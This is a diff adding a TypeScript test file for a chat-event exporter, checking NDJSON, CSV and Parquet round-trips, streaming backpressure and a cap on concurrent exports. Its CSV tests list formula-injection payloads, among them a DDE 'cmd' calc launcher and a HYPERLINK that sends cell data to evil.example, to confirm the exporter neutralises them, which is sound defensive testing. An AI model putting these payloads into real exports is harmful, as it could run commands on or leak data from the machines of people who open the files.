@@ -1,0 +1,171 @@
+import { createHash } from 'node:crypto'
+import type { UnifiedEvent } from '@livetap/contracts/unified-event.ts'
+import { parquetReadObjects } from 'hyparquet'
+import { describe, expect, it } from 'vitest'
+import { Exporter, type ExportFormat } from './exports.ts'
+
+const sessionId = '0b9f3f0e-5a51-4c53-9d4e-0a2f6c1d7e55'
+
+function createChat(seqNo: number, message: string, displayName = 'Mira'): UnifiedEvent {
+  const time = new Date(Date.UTC(2026, 2, 1, 20, 0, 0, seqNo)).toISOString()
+  return {
+    schemaVersion: '1',
+    eventId: createHash('sha256').update(String(seqNo)).digest('hex'),
+    workspaceId: 'default',
+    streamId: '7300000000000000001',
+    sessionId,
+    source: 'live',
+    seqNo,
+    timestamp: time,
+    ingestedAt: time,
+    eventType: 'CHAT',
+    triggerId: 1,
+    user: {
+      userId: '6800000000000000042',
+      uniqueId: 'mira',
+      displayName,
+      avatarUrl: '',
+      followRole: 1,
+      isModerator: false,
+      isSubscriber: true,
+      teamMemberLevel: 7,
+    },
+    payload: { message, emotes: [], language: 'en' },
+  }
+}
+
+async function* paged(events: readonly UnifiedEvent[], size = 3): AsyncGenerator<string[]> {
+  for (let at = 0; at < events.length; at += size) {
+    yield events.slice(at, at + size).map((event) => JSON.stringify(event))
+  }
+}
+
+async function write(format: ExportFormat, events: readonly UnifiedEvent[], size?: number): Promise<Buffer> {
+  const chunks: Buffer[] = []
+  for await (const chunk of new Exporter().begin(format, paged(events, size)).body) chunks.push(chunk as Buffer)
+  return Buffer.concat(chunks)
+}
+
+/** Reads RFC 4180, as a spreadsheet would. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
+    if (end === '\r\n') rows.push([])
+  }
+  return rows.slice(0, -1)
+}
+
+const readColumn = (rows: string[][], name: string) => rows.slice(1).map((row) => row[rows[0]?.indexOf(name) ?? -1])
+
+const hostile = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'ends\r\n', '🌻 émoji', "it's", '', ' =1', 'ütf', '<b>']
+
+describe('NDJSON', () => {
+  it('holds one whole event a line', async () => {
+    const events = hostile.map((text, index) => createChat(index, text))
+    const text = (await write('ndjson', events)).toString()
+    expect(text.endsWith('\n')).toBe(true)
+    expect(
+      text
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line)),
+    ).toEqual(events)
+  })
+
+  it('of nothing is empty', async () => expect(await write('ndjson', [])).toHaveLength(0))
+})
+
+describe('CSV', () => {
+  it('gives back what was put in', async () => {
+    const events = hostile.map((text, index) => createChat(index, text, text))
+    const rows = readCsv((await write('csv', events)).toString())
+    expect(new Set(rows.map((row) => row.length)).size).toBe(1)
+    expect(readColumn(rows, 'message')).toEqual(hostile)
+    expect(readColumn(rows, 'displayName')).toEqual(hostile)
+    expect(readColumn(rows, 'seqNo')).toEqual(events.map((event) => String(event.seqNo)))
+    expect(readColumn(rows, 'isSubscriber')).toEqual(events.map(() => 'true'))
+    expect(readColumn(rows, 'giftName')).toEqual(events.map(() => ''))
+    expect(readColumn(rows, 'payload').map((json) => JSON.parse(json ?? ''))).toEqual(events.map((e) => e.payload))
+  })
+
+  it('of nothing is its header', async () => {
+    expect(readCsv((await write('csv', [])).toString())).toHaveLength(1)
+  })
+
+  const formulas = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'].flatMap((first) => [
+    `${first}cmd|' /C calc'!A0`,
+    `${first}HYPERLINK("http://evil.example?x="&A1,"click")`,
+    `${first}1+1,=2`,
+    first,
+    `${first}\n=1`,
+    `${first}"`,
+  ])
+  it.each(formulas)('keeps %j from being a formula', async (text) => {
+    const rows = readCsv((await write('csv', [createChat(1, text, text)])).toString())
+    const cells = rows[1] ?? []
+    expect(readColumn(rows, 'message')).toEqual([`'${text}`])
+    expect(readColumn(rows, 'displayName')).toEqual([`'${text}`])
+    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([])
+  })
+})
+
+describe('Parquet', () => {
+  const read = async (bytes: Buffer) =>
+    parquetReadObjects({ file: new Uint8Array(bytes).buffer }) as Promise<Record<string, unknown>[]>
+
+  it('gives back what was put in, over several row groups', async () => {
+    const events = Array.from({ length: 12_001 }, (_, index) =>
+      createChat(index, hostile[index % hostile.length] ?? ''),
+    )
+    const rows = await read(await write('parquet', events, 700))
+    expect(rows).toHaveLength(events.length)
+    expect(rows.map((row) => row.message)).toEqual(events.map((e) => (e.payload as { message: string }).message))
+    expect(rows.map((row) => row.seqNo)).toEqual(events.map((event) => BigInt(event.seqNo)))
+    expect(rows[5]).toMatchObject({
+      eventId: events[5]?.eventId,
+      eventType: 'CHAT',
+      timestamp: new Date(events[5]?.timestamp ?? ''),
+      isModerator: false,
+      isSubscriber: true,
+      followRole: 1n,
+      giftName: null,
+      coins: null,
+      userId: '6800000000000000042',
+    })
+    expect(JSON.parse(String(rows[7]?.payload))).toEqual(events[7]?.payload)
+  })
+
+  it('of nothing is a file without rows', async () => expect(await read(await write('parquet', []))).toEqual([]))
+})
+
+describe('an export', () => {
+  it('reads no further than its reader, and stops when that goes away', async () => {
+    let read = 0
+    let ended = false
+    async function* endless(): AsyncGenerator<string[]> {
+      try {
+        for (;;) {
+          read += 1
+          yield [JSON.stringify(createChat(read, 'x'.repeat(10_000)))]
+        }
+      } finally {
+        ended = true
+      }
+    }
+    const { body } = new Exporter().begin('ndjson', endless())
+    await body[Symbol.asyncIterator]().next()
+    for (let turn = 0; turn < 50; turn += 1) await new Promise((resolve) => setImmediate(resolve))
+    expect(read).toBeLessThan(20)
+    body.destroy()
+    await expect.poll(() => ended).toBe(true)
+  })
+
+  it('is refused while too many run, and not any more when one has ended', async () => {
+    const exporter = new Exporter()
+    const bodies = Array.from({ length: 4 }, () => exporter.begin('csv', paged([])).body)
+    expect(() => exporter.begin('csv', paged([]))).toThrow('running already')
+    bodies[0]?.destroy()
+    await expect.poll(() => exporter.begin('csv', paged([]))).toBeDefined()
+  })
+})
